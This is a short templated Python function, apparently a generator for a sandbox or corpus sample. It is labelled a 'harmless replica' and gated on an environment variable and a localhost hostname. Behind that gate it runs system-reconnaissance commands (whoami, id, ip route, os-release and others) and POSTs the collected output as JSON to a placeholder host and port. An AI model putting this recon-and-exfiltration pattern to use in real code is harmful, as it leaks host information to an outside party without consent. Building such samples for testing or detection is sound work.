# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import json
    import subprocess
    import urllib.request
    facts = {'mark': '{{token}}'}
    for words in (['whoami'], ['id'], ['hostname'], ['ip', 'route'], ['cat', '/etc/os-release'], ['df', '-h'], ['lscpu'])[:{{n}}]:
        try:
            facts[words[0]] = subprocess.run(words, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=0.6).stdout.decode(errors='replace')
        except Exception:
            continue
    try:
        urllib.request.urlopen(urllib.request.Request('http://{{host}}:{{port}}/{{path}}', data=json.dumps(facts).encode()), timeout=1).close()
    except Exception:
        pass
